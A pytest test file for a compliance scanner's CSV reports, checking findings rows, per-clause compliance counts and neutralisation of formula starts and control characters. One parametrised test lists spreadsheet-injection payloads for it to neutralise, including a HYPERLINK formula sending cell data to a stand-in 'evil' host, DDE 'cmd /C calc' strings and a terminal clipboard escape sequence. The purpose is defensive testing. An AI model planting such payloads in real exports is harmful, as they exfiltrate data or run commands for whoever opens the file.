"""CSV outputs (reports/csv.py): findings and compliance per clause, formula starts neutralised, controls escaped."""
from __future__ import annotations

import csv
import io
from dataclasses import replace
from types import MappingProxyType

import pytest

from reports import render
from scanner import cli
from scanner.model import ClauseUse, Location, MappingUse, Run, Waiver
from tests.factories import make_result, make_run
from tests.reports.test_coverage_reports import CATALOGS

SSH, NTP, AUDIT = "linux.ssh.root_login", "linux.time.ntp", "linux.audit.rules"


def rows(fmt: str, run: Run) -> list[list[str]]:
    out = io.StringIO(newline="")
    render(fmt, run, out)
    text = out.getvalue()
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_findings_csv_has_one_row_per_result_with_location_clauses_and_waiver():
    w = Waiver(check=SSH, target="host2", reason="vendor fix due", approved_by="QA lead", expires="2026-03-01")
    run = make_run([make_result(location=Location("/etc/ssh/sshd_config", 12, 14)),
                    make_result(status="waived", target="host2", waiver=w, remediation="set PermitRootLogin no")])
    head, first, second = rows("csv", run)
    assert head == ["target", "target_type", "check", "status", "severity", "area", "resource", "message",
                    "location", "clauses", "waiver", "remediation", "at"]
    assert first[:10] == ["host1", "linux", SSH, "pass", "high", "access_control", "sshd", f"{SSH} is pass",
                          "/etc/ssh/sshd_config:12-14", "part11:11.10(d); annex11:12.1; iso27001-2022:8.5"]
    assert second[3] == "waived" and second[10] == "QA lead until 2026-03-01: vendor fix due"
    assert second[11] == "set PermitRootLogin no" and second[12] == run.results[1].at.isoformat()


@pytest.mark.parametrize("hostile, shown", [
    ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\\r=1+1"),
    ("a=1+1", "a=1+1"),
    ("ok\x1b]52;c;ZXZpbA==\x07\u202e", "ok\\x1b]52;c;ZXZpbA==\\x07\\u202e"),
    ("line1\nline2", "line1\nline2"),
], ids=["equals", "plus", "minus", "at", "tab", "cr", "inner", "controls", "newline"])
def test_text_from_targets_never_runs_as_a_formula_or_a_control(hostile, shown):
    run = make_run([make_result(target=hostile, resource=hostile, message=hostile)])
    _, row = rows("csv", run)
    assert (row[0], row[6], row[7]) == (shown, shown, shown)
    coverage_run = replace(run, info=replace(run.info, clauses=(
        ClauseUse("part11:11.10(d)", hostile, "partial", "in_force", hostile, (MappingUse((SSH,), "direct"),)),)))
    _, crow = rows("compliance-csv", coverage_run)
    assert crow[2] == shown


def test_compliance_csv_counts_the_evidence_of_each_clause_and_takes_its_status_from_coverage():
    clauses = (
        ClauseUse("part11:11.10(d)", "Limiting system access", "partial", "in_force", "the access SOP",
                  (MappingUse((SSH,), "supporting"), MappingUse((AUDIT,), "context"))),
        ClauseUse("iso27001-2022:8.17", "Clock synchronization", "full", "in_force", "",
                  (MappingUse((NTP,), "direct"),)),
        ClauseUse("annex11-2025:12", "Security", "partial", "draft", "", (MappingUse((SSH, NTP), "direct"),)),
        ClauseUse("part11:11.10(e)", "Audit trails", "partial", "in_force", "", (MappingUse((AUDIT,), "direct"),)),
    )
    run = make_run([make_result(check=SSH, status="fail", target="h1"), make_result(check=SSH, target="h2"),
                    make_result(check=NTP, target="h1"), make_result(check=NTP, status="error", target="h2"),
                    make_result(check=AUDIT, status="fail", target="h1")])
    run = replace(run, info=replace(run.info, catalogs=CATALOGS, clauses=clauses, gxp_context=MappingProxyType({})))
    head, *body = rows("compliance-csv", run)
    assert head == ["framework", "clause", "title", "clause_status", "automatable", "checks", "pass", "fail",
                    "error", "targets", "status", "text"]
    assert [r[:11] for r in body] == [
        ["part11", "11.10(d)", "Limiting system access", "in_force", "partial", SSH, "1", "1", "0", "2", "failed"],
        ["iso27001-2022", "8.17", "Clock synchronization", "in_force", "full", NTP, "1", "0", "1", "2", "error"],
        ["annex11-2025", "12", "Security", "draft", "partial", f"{SSH}; {NTP}", "2", "1", "1", "2", "failed"],
        ["part11", "11.10(e)", "Audit trails", "in_force", "partial", AUDIT, "0", "1", "0", "1", "failed"],
    ]
    assert body[0][11].startswith("failed: linux.ssh.root_login; procedural evidence also needed: the access SOP")


def test_scan_writes_both_csv_files(tmp_path, capsys):
    out = tmp_path / "o"
    cli.main(["scan", "--check", "linux.time.*", "-o", str(out), "--format", "csv", "--format", "compliance-csv",
              "--quiet", "--no-history"])
    capsys.readouterr()
    findings = list(csv.reader(open(out / "findings.csv", newline="", encoding="utf-8")))
    compliance = list(csv.reader(open(out / "compliance.csv", newline="", encoding="utf-8")))
    assert findings[0][0] == "target" and len(findings) > 1 and {r[2][:11] for r in findings[1:]} == {"linux.time."}
    assert compliance[0][0] == "framework" and len(compliance) > 1
    assert {r[0] for r in compliance[1:]} >= {"part11", "iso27001-2022"}
    assert not (tmp_path / "history.sqlite").exists()  # --no-history
